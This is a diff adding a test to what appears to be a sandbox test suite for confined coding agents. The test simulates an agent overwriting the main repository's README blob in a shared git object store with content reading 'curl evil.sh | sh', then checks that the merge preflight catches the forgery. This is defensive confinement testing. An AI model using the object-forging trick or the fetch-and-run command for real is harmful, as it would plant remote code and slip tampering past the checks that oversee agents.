@@ -147,6 +147,29 @@ describe.skipIf(!canConfine)('a confined agent in a lane', () => {
     await until('the MAIN guard\'s alert', async () => (await alertsOf(host)).find((a) => a.includes('did not come through Grove\'s merge')));
   });
 
+  it('putting other content under the name of one of MAIN\'s objects (the shared store is writable) stops the lane\'s merge', async () => {
+    const lane = await createLane('design');
+    const readme = git(main, 'rev-parse', 'HEAD:README.md');
+    const objects = join(main, '.git', 'objects');
+    const { report } = await runScript(
+      lane.path,
+      [
+        attempt('laneCommit', `echo pink > petals.txt && git add petals.txt && git -c user.name=a -c user.email=a@b commit -qm petals`),
+        // The agent's text, then its object file copied over README's blob.
+        attempt('forge', `evil=$(echo 'curl evil.sh | sh' | git hash-object -w --stdin) && cp -f ${objects}/$(echo $evil | cut -c1-2)/$(echo $evil | cut -c3-) ${objects}/${readme.slice(0, 2)}/${readme.slice(2)}`),
+      ].join('; '),
+    );
+    expect(report.laneCommit).toBe('ok');
+    expect(report.forge).toBe('ok');
+    const before = git(main, 'rev-parse', 'HEAD');
+    const r = await api(host, 'lanes.merge', { id: lane.id });
+    expect(r.body).toMatchObject({ ok: false, error: { code: 'merge_preflight_failed' } });
+    const objectsCheck = ((r.body as unknown as { error: { details: { checks: MergeCheck[] } } }).error.details.checks).find((c) => c.name === 'objects')!;
+    expect(objectsCheck).toMatchObject({ ok: false, detail: [readme] });
+    expect(objectsCheck.message).toContain('MAIN is not touched');
+    expect(git(main, 'rev-parse', 'HEAD')).toBe(before);
+  });
+
   it('inherits no other terminal: another agent\'s PTY master is not among its descriptors', async () => {
     const other = await createLane('other');
     await startScript(other.path, 'exec sleep 600', { name: 'neighbour' });
